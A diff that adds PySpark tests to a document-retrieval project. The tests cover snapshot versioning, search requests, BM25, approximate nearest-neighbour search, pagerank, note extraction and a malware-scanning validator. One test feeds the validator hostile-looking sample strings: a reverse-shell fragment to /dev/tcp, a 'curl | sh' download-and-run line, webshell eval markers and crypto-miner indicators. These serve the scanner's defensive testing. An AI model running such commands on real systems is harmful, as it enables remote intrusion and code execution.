@@ -6,10 +6,11 @@ import tarfile
 import zipfile
 
 import numpy as np
+import pytest
 from pyspark.sql import functions as F
 
 from lorewell.functions import text as t
-from lorewell.operators import chunking, graph, maintenance, retrieval, validation
+from lorewell.operators import chunking, graph, maintenance, notes, retrieval, service, validation
 from lorewell.sources import files
 
 
@@ -174,8 +175,11 @@ def test_upsert_and_snapshot(spark, tmp_path):
     assert sorted(r.v for r in maintenance.upsert(rows, stored, ["k"], "at").collect()) == ["a", "c", "d"]
     path = str(tmp_path / "t")
     maintenance.write_snapshot(stored, path)
-    maintenance.write_snapshot(maintenance.upsert(spark.read.parquet(path), rows, ["k"]), path)
-    assert spark.read.parquet(path).count() == 3
+    before = maintenance.read_snapshot(spark, path)
+    assert maintenance.write_snapshot(maintenance.upsert(maintenance.read_snapshot(spark, path), rows, ["k"]), path) == "v00000002"
+    assert maintenance.read_snapshot(spark, path).count() == 3 and before.count() == 2  # an earlier reader keeps its version
+    maintenance.write_snapshot(rows, path)
+    assert sorted(x.name for x in (tmp_path / "t").iterdir() if x.name[0] == "v") == ["v00000002", "v00000003"]
     d = spark.createDataFrame([(1, "p"), (2, "q")], "doc_id long, file_path string")
     c = spark.createDataFrame([(1, 1), (2, 2)], "id long, document_id long")
     docs, chunks = maintenance.replace_documents(d, c, spark.createDataFrame([(9, "p")], "doc_id long, file_path string"), spark.createDataFrame([(7, 9)], "id long, document_id long"))
@@ -209,3 +213,128 @@ def test_long_go_declarations_are_kept_whole():
     for code in (table, "var x = `" + "y" * 20_000 + "`\n", "func A() {\n" + (" " * 200 + "b()\n") * 100 + "}\n"):
         pieces = [c for c, _, _ in chunking.go_pieces(code)]
         assert "".join("".join(pieces).split()) == "".join(code.split()) and max(map(len, pieces)) <= 8192
+
+
+def test_requests_and_settings(spark, tmp_path):
+    for text, top, least in ((None, 5, None), ("  ", 5, None), ("x", 0, None), ("x", 51, None), ("x", 5, 1.5), ("x", 5, float("nan"))):
+        with pytest.raises(ValueError):
+            service.check_request(text, top, least)
+    service.check_request("x", 50, 0.0)
+    df = spark.createDataFrame([(None, 5, None), (" ", 5, None), ("x", 0, None), ("x", 5, 1.5), ("x", 5, None)], "t string, k int, l double")
+    got = [r[0] for r in df.select(service.request_problem(F.col("t"), F.col("k"), F.col("l"))).collect()]
+    assert got == ["blank text", "blank text", "top_k out of range", "threshold out of range", None]
+    assert service.fetch_size(5, True) == 40 and service.fetch_size(30, True) == 60 and service.fetch_size(5, False) == 5
+    file = tmp_path / "s.json"
+    file.write_text(json.dumps({"data_folder": "/d", "top": 7}))
+    s = service.Settings.load({"LOREWELL_TOP": "9", "LOREWELL_RERANK": "no"}, str(file))
+    assert (s.data_folder, s.top, s.rerank, s.max_retries) == ("/d", 9, False, 3)
+    with pytest.raises(ValueError):
+        service.Settings.load({})
+    file.write_text(json.dumps({"data_folder": "/d", "other": 1}))
+    with pytest.raises(ValueError):
+        service.Settings.load({}, str(file))
+
+
+def test_jobs_report_progress(spark):
+    jobs = service.Jobs(spark)
+    key = jobs.start(lambda: spark.range(1000).repartition(4).count())
+    assert jobs.result(key, 60) == 1000
+    assert jobs.status(key)["state"] == "completed" and jobs.status("?")["state"] == "unknown"
+    key = jobs.start(lambda: 1 / 0)
+    jobs.result(key, 60)
+    assert jobs.status(key)["state"] == "failed" and "division" in jobs.status(key)["error"]
+
+
+def test_one_question(spark, data):
+    name = retrieval.stem_queries(spark, data).first()
+    got = service.search(spark, data, " ".join(name.words), 5).collect()
+    assert 0 < len(got) <= 5 and [r.place for r in got] == list(range(1, len(got) + 1))
+    assert service.search(spark, data, "zzzzunknownzzzz").count() == 0
+
+
+def test_sparse_search_is_brute_force(spark):
+    rng = np.random.default_rng(6)
+    texts = [(i, " ".join(f"w{x}" for x in rng.zipf(1.6, 30) % 40), 1.0) for i in range(200)]
+    rows = spark.createDataFrame(texts, "id long, content string, w double")
+    asked = [(q, [f"w{x}" for x in rng.integers(0, 40, 4)]) for q in range(30)] + [(99, []), (98, ["none"])]
+    got = {(r.query_id, r.id): (r.score, r.rank) for r in retrieval.bm25(rows, spark.createDataFrame(asked, "query_id long, words array<string>"), 7).collect()}
+    words = {i: t.split() for i, t, _ in texts}
+    n, avg = len(texts), np.mean([len(w) for w in words.values()])
+    df = {w: sum(w in set(d) for d in words.values()) for w in {x for d in words.values() for x in d}}
+    raw = {w: np.log(n - k + 0.5) - np.log(k + 0.5) for w, k in df.items()}
+    mean = np.mean(list(raw.values()))
+    idf = {w: 0.25 * mean if x < 0 else x for w, x in raw.items()}
+    for q, terms in asked:
+        score = {i: sum(idf.get(w, 0) * d.count(w) * 2.5 / (d.count(w) + 1.5 * (0.25 + 0.75 * len(d) / avg)) for w in terms) for i, d in words.items()}
+        best = sorted(((-round(s, 6), i) for i, s in score.items() if round(s, 6) > 0))[:7]
+        assert [(i, k + 1) for k, (_, i) in enumerate(best)] == sorted(((i, r) for (a, i), (_, r) in got.items() if a == q), key=lambda x: x[1])
+
+
+def test_approximate_search_finds_nearly_all(spark):
+    rng = np.random.default_rng(8)
+    x = (np.repeat(rng.normal(size=(300, 64)), 20, axis=0) + rng.normal(size=(6000, 64)) * 0.5).astype("float32")
+    v = retrieval.usable_vectors(spark.createDataFrame([(i, r.tolist()) for i, r in enumerate(x)], "rowid long, embedding array<float>"))
+    asked = v.where("id % 20 = 0")
+    exact = {(r.query_id, r.id) for r in retrieval.exact_nearest(v, asked).collect()}
+    near = {(r.query_id, r.id) for r in retrieval.approximate_nearest(v, asked, cell_rows=60).collect()}
+    assert len(exact) == 3000 and len(exact & near) >= 0.9 * len(exact)
+    ball = v.withColumn("v", F.array([F.lit(1.0).cast("float")] * 64))
+    assert {r.id for r in retrieval.exact_nearest(ball, ball.where("id = 40"), 5).collect()} == {0, 1, 2, 3, 4}
+
+
+def test_pagerank_ends_by_tolerance(spark):
+    e = spark.createDataFrame([("a", "b"), ("b", "a"), ("c", "a")], "source_id string, target_id string")
+    n = spark.createDataFrame([("a",), ("b",), ("c",)], "node_id string")
+    r = {x.node_id: x.rank for x in graph.pagerank(e, n).collect()}
+    assert abs(sum(r.values()) - 1) < 1e-9 and abs(r["c"] - 0.05) < 1e-9 and abs(r["a"] - (0.05 + 0.85 * (r["b"] + r["c"]))) < 1e-5
+    with pytest.raises(RuntimeError):
+        graph.pagerank(e, n, rounds=2)
+
+
+def test_footers_and_vaults(spark):
+    notes_ = [("v/a/One.md", "---\ntags: x\n---\nSee [[Two]] and [[Three|3]] #t\n\n# Head\n\nbody"), ("v/Two.md", "back to [[One]], [[One]]"), ("v/.obsidian/x.md", "[[One]]"), ("v/templates/t.md", "x"), ("v/c.txt", "x"), ("v/n.md", None)]
+    got = {(r.path, r.chunk_index): r.content for r in notes.extract_vault(spark.createDataFrame(notes_, "path string, text string")).collect()}
+    assert {p for p, _ in got} == {"v/a/One.md", "v/Two.md"}
+    one = got[("v/a/One.md", 0)]
+    assert one.startswith("See [[Two]]") and one.endswith("---\nNote: One\nTags: #t\nLinks to: Two, Three\nLinked from: 1 notes\nRelated notes: Three, Two")
+    assert [p[0] for p in notes.section_pieces("a\n\n# b\n\nc\n\n## d")] == ["a", "# b\n\nc", "## d"]
+
+
+def test_planted_rules_archives_permissions(spark):
+    texts = [(1, "powershell AutoOpen"), (2, "bash -i >& /dev/tcp/1"), (3, "$_GET eval("), (4, "clean"), (5, None), (6, "curl http://x | sh"), (7, "stratum+tcp://p"), (8, "/JavaScript /Launch")]
+    got = {(r.doc_id, r.rule) for r in validation.matched_rules(spark.createDataFrame(texts, "doc_id long, text string")).collect()}
+    assert got == {(1, "Suspicious_VBA_Macros"), (2, "Reverse_Shell"), (3, "Webshell_Indicators"), (6, "Suspicious_Script_Download"), (7, "Cryptocurrency_Miner"), (8, "Malicious_PDF_JavaScript")}
+    files_ = [(bytearray(b"#!/bin/sh\n"), "markdown", 0o644), (bytearray(b"#!/bin/sh\n"), "python", 0o755), (bytearray(b"text"), "pdf", 0o755), (bytearray(b"text"), "pdf", 0o644)]
+    df = spark.createDataFrame(files_, "content binary, kind string, mode int")
+    assert [r[0] for r in df.select(validation.permission_verdict("kind", "mode")).collect()] == ["quarantine", "ok", "remedy", "ok"]
+    assert df.select(validation.remedied_mode("mode")).collect()[2][0] == 0o644
+
+
+def test_scan_takes_the_allowlist_and_the_cache_first(spark):
+    f = spark.createDataFrame([(1, "a", "xmrig cryptonight"), (2, "b", "xmrig cryptonight"), (3, "c", "xmrig cryptonight"), (4, "d", "fine"), (5, "e", "fine")], "doc_id long, file_hash string, text string")
+    listed = spark.createDataFrame([("a", True), ("d", True)], "file_hash string, listed boolean")
+    allowed = spark.createDataFrame([("a",)], "file_hash string")
+    cache = spark.createDataFrame([("b", False, "WARNING", "YARAStrategy", "1"), ("e", False, "CRITICAL", "x", "0")], "file_hash string, is_valid boolean, severity string, validation_check string, scanner_version string")
+    got = {r.doc_id: (r.source, r.is_valid, r.severity) for r in validation.scan(f, listed, allowed, cache).collect()}
+    assert got == {1: ("allowlist", True, "INFO"), 2: ("cache", False, "WARNING"), 3: ("scan", True, "WARNING"), 4: ("scan", False, "CRITICAL"), 5: ("scan", True, "INFO")}
+    assert validation.scan(f, listed).count() == 5
+
+
+def test_quarantine_records(spark):
+    results = spark.createDataFrame([(1, "a", False, "CRITICAL", "HashBlacklistStrategy"), (2, "b", False, "WARNING", "YARAStrategy"), (3, "c", False, "CRITICAL", "ArchiveBombStrategy")], "doc_id long, file_hash string, is_valid boolean, severity string, validation_check string")
+    paths = spark.createDataFrame([(1, "k/x.pdf"), (2, "k/y.pdf"), (3, "k/z.zip")], "doc_id long, file_path string")
+    records = validation.quarantined(results, paths, F.lit("2024-01-01").cast("timestamp"))
+    assert {(r.original_path, r.kept_at) for r in records.collect()} == {("k/x.pdf", "quarantine/x.pdf.REJECTED"), ("k/z.zip", "quarantine/z.zip.REJECTED")}
+    after = validation.after_restore(records, spark.createDataFrame([("k/x.pdf",), ("other",)], "original_path string"), F.lit("2024-02-01").cast("timestamp"))
+    assert {(r.original_path, r.restored) for r in after.collect()} == {("k/x.pdf", True), ("k/z.zip", False)}
+    assert [r.original_path for r in validation.after_purge(after, F.lit("2024-03-01").cast("timestamp"), 30).collect()] == ["k/x.pdf"]
+    assert validation.after_purge(after, F.lit("2024-01-20").cast("timestamp"), 30).count() == 2
+
+
+def test_texts_are_not_moved_to_drop_repeated_rows(spark, data):
+    from lorewell.operators import quality, relational
+
+    for f in (relational.chunks_with_documents, relational.size_statistics, relational.short_pages, quality.chunk_sizes, quality.boundary_coherence, quality.quality_by_extension, quality.valid_chunks, quality.blank_pages, maintenance.statistics):
+        plan = f(spark, data)._jdf.queryExecution().optimizedPlan().toString()
+        below = [line for line in plan.split("\n") if "Aggregate [" in line and "content#" in line.split("Aggregate [", 1)[1]]
+        assert not [line for line in below if "first(content#" in line], f.__name__
